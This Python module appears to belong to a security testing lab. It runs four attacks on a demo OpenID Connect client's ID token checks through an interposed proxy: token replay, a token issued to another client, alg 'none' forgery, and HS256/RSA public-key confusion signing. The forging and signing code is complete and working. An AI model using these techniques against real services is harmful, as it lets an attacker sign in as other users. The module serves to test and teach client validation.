"""Attacks on the client's checks of an ID token (OpenID Connect Core §3.1.3.7).

Mallory's proxy is in front of the authorization server, so it sees and changes every token
response. It has no key that signs ID tokens.
"""

import base64
import hmac
import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import partial
from typing import Any
from urllib.parse import parse_qsl, quote, urlsplit

from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicNumbers
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from config import LAB_SUBJECTS
from inspector.lab.actors import MALLORY, Browser, Person
from inspector.lab.attack import Attack, Group
from inspector.lab.outcome import CannotRun, Outcome
from inspector.lab.proxy import Change, Proxy
from inspector.lab.stage import Stage

SCOPE = "openid profile photos:read"
Tokens = dict[str, Any]


@dataclass(frozen=True)
class SignIn:
    """A sign-in at Print Shop that has begun in a browser: its address, and its nonce."""

    browser: Browser
    address: str
    nonce: str


def replay_sign_in(stage: Stage) -> Outcome:
    """Answer Mallory's token request with the response of Carol's earlier sign-in."""
    kept: list[Tokens] = []

    def keep(tokens: Tokens) -> Tokens:
        kept.append(tokens)
        return tokens

    with _proxy(stage).changing(keep):
        _finish(stage, stage.carol, _begin(stage, stage.browser()))
    return _sign_in_with(stage, _begin_as_mallory(stage), lambda _: kept[0])


def use_token_of_another_app(stage: Stage) -> Outcome:
    """Answer Mallory's token request with what Mallory's app received for Carol."""
    sign_in = _begin_as_mallory(stage)
    app = stage.mallorys_app
    request = app.authorization_request(SCOPE, nonce=sign_in.nonce)
    code = stage.carol.allow(request.url, SCOPE, until=app.redirect_uri).redirect_parameters
    received = app.redeem(code.get("code", ""), request.verifier).json
    if "id_token" not in received:
        raise CannotRun("Mallory’s app received no ID token.")
    return _sign_in_with(stage, sign_in, lambda _: received)


def remove_signature(stage: Stage) -> Outcome:
    """Change the user in the ID token, and remove its signature."""

    def change(tokens: Tokens) -> Tokens:
        return tokens | {"id_token": f"{_forge(tokens['id_token'], {'alg': 'none'})}."}

    return _sign_in_with(stage, _begin_as_mallory(stage), change)


def sign_with_public_key(stage: Stage) -> Outcome:
    """Change the user in the ID token, and sign it with the public key as an HMAC secret."""
    kid, public_key = _fetch_rsa_key(stage)

    def change(tokens: Tokens) -> Tokens:
        signed = _forge(tokens["id_token"], {"alg": "HS256", "kid": kid})
        signature = hmac.digest(public_key, signed.encode(), "sha256")
        return tokens | {"id_token": f"{signed}.{_encode(signature)}"}

    return _sign_in_with(stage, _begin_as_mallory(stage), change)


def _proxy(stage: Stage) -> Proxy:
    if stage.proxy is None:
        raise CannotRun("Mallory’s proxy is not in front of the authorization server.")
    return stage.proxy


def _begin_as_mallory(stage: Stage) -> SignIn:
    return _begin(stage, stage.browser(MALLORY))


def _begin(stage: Stage, browser: Browser) -> SignIn:
    """Start at Print Shop with the scope openid."""
    started = browser.sender.send("GET", f"{stage.addresses.client}/connect?scope={quote(SCOPE)}")
    nonce = dict(parse_qsl(urlsplit(started.location).query)).get("nonce", "")
    if not nonce:
        raise CannotRun(f"Print Shop did not start a sign-in ({started.status}).")
    return SignIn(browser, started.location, nonce)


def _finish(stage: Stage, person: Person, sign_in: SignIn, change: Change | None = None) -> Outcome:
    """Sign in and open the callback, while the proxy applies `change` to the token response."""
    user = Person(person.username, person.password, sign_in.browser)
    callback = user.allow(sign_in.address, SCOPE, until=f"{stage.addresses.client}/callback")
    person.has_consented = True
    if "code" not in callback.redirect_parameters:
        raise CannotRun(f"Print Shop received no code ({callback.status} {callback.error}).")
    with _changing(stage, change):
        answer = sign_in.browser.sender.send("GET", callback.location)
    album = sign_in.browser.open(f"{stage.addresses.client}/photos").page.heading
    consequence = ""
    if "Carol" not in album and "Mallory" not in album:
        consequence = "Nobody is signed in at Print Shop, and it revoked the tokens."
    return answer.attempt(answer.status < 400, if_stopped=consequence)


@contextmanager
def _changing(stage: Stage, change: Change | None) -> Iterator[None]:
    if change is None:
        yield
        return
    with _proxy(stage).changing(change):
        yield


def _sign_in_with(stage: Stage, sign_in: SignIn, change: Callable[[Tokens], Tokens]) -> Outcome:
    return _finish(stage, stage.mallory, sign_in, change)


def _forge(id_token: str, header: dict[str, str]) -> str:
    """Return header and claims for a token like `id_token`, but about Carol."""
    part = id_token.split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    forged = claims | {"sub": LAB_SUBJECTS["lab-carol"]}
    return ".".join(_encode(json.dumps(each).encode()) for each in (header, forged))


def _encode(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def _fetch_rsa_key(stage: Stage) -> tuple[str, bytes]:
    """Return the `kid` of the server's public RSA key, and the key in PEM."""
    address = f"{stage.addresses.authorization_server}/oauth/jwks"
    keys = stage.thief.sender.send("GET", address).json.get("keys", [])
    key = next((key for key in keys if key.get("kty") == "RSA"), None)
    if key is None:
        raise CannotRun("The authorization server has no RSA key.")
    modulus, exponent = (_read_number(key[name]) for name in ("n", "e"))
    public_key = RSAPublicNumbers(exponent, modulus).public_key()
    pem = public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    return key["kid"], pem


def _read_number(text: str) -> int:
    return int.from_bytes(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))


#: What these attacks have in common.
attack = partial(
    Attack,
    aim="GET /callback",
    leg="client",
    group=Group.OPENID_CONNECT,
    severity="medium",
    own_legs="It runs on servers of its own, behind Mallory’s proxy.",
)

ATTACKS = (
    attack(
        slug="id-token-replayed",
        title="Replay another user’s ID token",
        description="Mallory’s proxy has kept the response of Carol’s sign-in at Print Shop. "
        "Mallory signs in, and the proxy answers with Carol’s ID token and tokens.",
        run=replay_sign_in,
        check="id-token-nonce",
    ),
    attack(
        slug="id-token-of-another-client",
        title="Use an ID token of another client",
        description="Carol uses Mallory’s app. It requests Carol’s ID token with the nonce of "
        "Mallory’s own sign-in at Print Shop, and the proxy sends Print Shop that token.",
        run=use_token_of_another_app,
        check="id-token-parties",
    ),
    attack(
        slug="id-token-without-signature",
        title="Remove the signature of an ID token",
        description="Mallory signs in at Print Shop. The proxy changes the ID token so that it "
        "names Carol, and its algorithm is none.",
        run=remove_signature,
        check="id-token-signature",
    ),
    attack(
        slug="id-token-key-confusion",
        title="Sign an ID token with the public key",
        description="Mallory signs in at Print Shop. The proxy changes the ID token so that it "
        "names Carol, and signs it with HS256: the secret is the public RSA key, which everybody "
        "can read.",
        run=sign_with_public_key,
        check="id-token-signature",
    ),
)
